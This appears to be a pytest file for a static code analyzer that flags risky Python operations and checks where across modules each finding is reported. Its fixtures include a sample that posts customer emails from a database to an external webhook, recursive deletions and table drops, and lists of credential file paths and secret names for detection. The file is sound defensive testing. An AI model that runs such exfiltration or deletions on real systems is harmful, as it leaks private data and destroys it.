"""The Python front end stays quiet on real code: what a helper of a sibling module does on its own
is reported once, where it is written, and a call gets a finding only when what it passes decides
or changes the operation (issue 15/14).

Each case is a small project written to ``tmp_path`` and checked as a set, the way the CLI checks
a folder; every detection has a near miss.
"""
from __future__ import annotations

from pathlib import Path

import pytest

from analyzer.engine import Checker
from analyzer.frontends import Options, analyze
from analyzer.frontends.python.apis import python_catalogue
from analyzer.frontends.secretnames import secret_names
from analyzer.model import Context, Location
from analyzer.policy.load import load_policy

LIB = '''import shutil

DATA = "/srv/data"


def wipe():
    shutil.rmtree(DATA)


def wipe_path(path):
    shutil.rmtree(path)


def wipe_default(path=DATA):
    shutil.rmtree(path)
'''

TASK_ALONE = '''from lib import wipe


def main():
    wipe()
'''

TASK_DECIDES = '''from lib import wipe_path, wipe_default


def main():
    wipe_path("/srv/releases")
    wipe_default()
'''


def _findings(root: Path, files: dict[str, str]) -> set[tuple[str, int, str]]:
    for name, text in files.items():
        (root / name).write_text(text, encoding="utf-8")
    report = Checker(load_policy(), Context()).check_paths([str(root)], cache=False)
    assert not report.errors
    return {(Path(f.operation.location.path).name, f.operation.location.line, f.operation.rule)
            for f in report.findings}


def test_a_sibling_helper_that_does_the_same_whatever_the_call_is_reported_once_where_it_is(tmp_path: Path) -> None:
    found = _findings(tmp_path, {"lib.py": LIB, "task.py": TASK_ALONE})
    assert ("lib.py", 7, "py.fs-delete-tree") in found
    assert not [f for f in found if f[0] == "task.py"]


def test_a_call_that_names_the_target_or_lets_a_default_apply_is_reported_at_the_call(tmp_path: Path) -> None:
    found = _findings(tmp_path, {"lib.py": LIB, "task.py": TASK_DECIDES})
    assert {("task.py", 5, "py.fs-delete-tree"), ("task.py", 6, "py.fs-delete-tree")} <= found


CHAIN_LIB = '''import os

PIDFILE = "/var/run/app.pid"


def remove(path):
    os.unlink(path)


def release():
    remove(PIDFILE)


def detached():
    release()
'''


def test_a_chain_of_sibling_helpers_is_reported_once_where_the_operation_is(tmp_path: Path) -> None:
    """celery/bin/beat.py: detached > release > remove reported at the caller's line too."""
    found = _findings(tmp_path, {"platforms.py": CHAIN_LIB,
                                 "beat.py": "from platforms import detached\n\ndetached()\n"})
    assert not [f for f in found if f[0] == "beat.py"]
    assert ("platforms.py", 11, "py.fs-delete") in found


BUCKETS = '''import boto3


def empty_bucket(bucket):
    boto3.resource("s3").Bucket(bucket).objects.all().delete()
'''


def test_a_name_the_call_passes_into_the_receiver_names_the_target(tmp_path: Path) -> None:
    found = _findings(tmp_path, {"store.py": BUCKETS, "ops.py": (
        "import store\n\nstore.empty_bucket('platform-artifacts')\n")})
    assert ("ops.py", 3, "py.cloud-delete") in found


def test_a_constant_tuple_through_a_default_names_each_item() -> None:
    text = '''
from alembic import op

LEGACY = ("lines_v1", "totals_v1")

def drop_tables(tables=LEGACY):
    for table in tables:
        op.drop_table(table)

drop_tables()
drop_tables(tables=())
'''
    found = [(op.location.line, op.targets) for op in analyze("python", text, Location("m.py"), Options()).operations
             if op.rule == "py.orm-drop-schema"]
    assert (10, ("lines_v1",)) in found and (10, ("totals_v1",)) in found
    assert not [line for line, _ in found if line == 11]


MAPPED_OVER_KNOWN = '''
import os
from concurrent.futures import ThreadPoolExecutor

FILES = ["/srv/a.db", "/srv/b.db"]

def one(path, mode="rw"):
    os.remove(path)
    os.remove("/srv/lock")

with ThreadPoolExecutor() as pool:
    pool.map(one, FILES)
'''


def test_a_helper_mapped_over_a_known_list_is_reported_once_per_distinct_finding() -> None:
    """Once per item (each names its file), never once more for the whole list; what does not
    depend on the item (the lock file) is reported where it is written, not at the call."""
    found = [op.targets for op in analyze("python", MAPPED_OVER_KNOWN, Location("m.py"), Options()).operations
             if op.location.line == 12]
    assert sorted(found) == [("/srv/a.db",), ("/srv/b.db",)]


QUERY_SENT = '''
import sqlite3
import requests

rows = sqlite3.connect("crm.db").execute("SELECT email FROM customers").fetchall()
text = "; ".join(email for email, in rows)
requests.post("https://hooks.example-chat.net/x", json={"text": text, "rows": rows})
'''


def test_a_source_is_named_once_by_its_most_precise_label() -> None:
    sources = [op.detail("source") for op in analyze("python", QUERY_SENT, Location("m.py"), Options()).operations
               if op.rule == "py.exfil-request"]
    assert sources == ["query result (SELECT email FROM customers)"]


@pytest.mark.parametrize("name, secret", [
    ("ETL_SIGNING_KEY", True), ("STRIPE_KEY", True), ("deploy_key", True), ("SFTP_KEYS", True),
    ("GITHUB_TOKEN", True), ("AWS_SECRET_ACCESS_KEY", True),
    ("PRIMARY_KEY", False), ("SORT_KEY", False), ("CACHE_KEY", False), ("KEY_PREFIX", False),
    ("DYNAMO_PARTITION_KEY", False), ("IDEMPOTENCY_KEY", False), ("REGION", False), ("KEYBOARD", False),
])
def test_secret_variable_names_come_from_one_matcher(name: str, secret: bool) -> None:
    assert secret_names().is_secret_variable(name) is secret
    assert python_catalogue().is_secret_variable(name) is secret


@pytest.mark.parametrize("path, credential", [
    ("~/.npmrc", True), ("~/.pypirc", True), ("~/.git-credentials", True), ("app/.env", True),
    ("~/.aws/credentials", True), ("/etc/passwd", False), (".env.example", False),
    ("~/.ssh/id_ed25519.pub", False), ("setup.cfg", False),
])
def test_credential_files_come_from_the_secrets_section(path: str, credential: bool) -> None:
    assert secret_names().is_credential_path(path) is credential


@pytest.mark.parametrize("header, auth", [
    ("Authorization", True), ("X-Api-Key", True), ("PRIVATE-TOKEN", True), ("X-Region", False), ("Accept", False),
])
def test_auth_headers_come_from_the_secrets_section(header: str, auth: bool) -> None:
    assert secret_names().is_auth_header(header) is auth
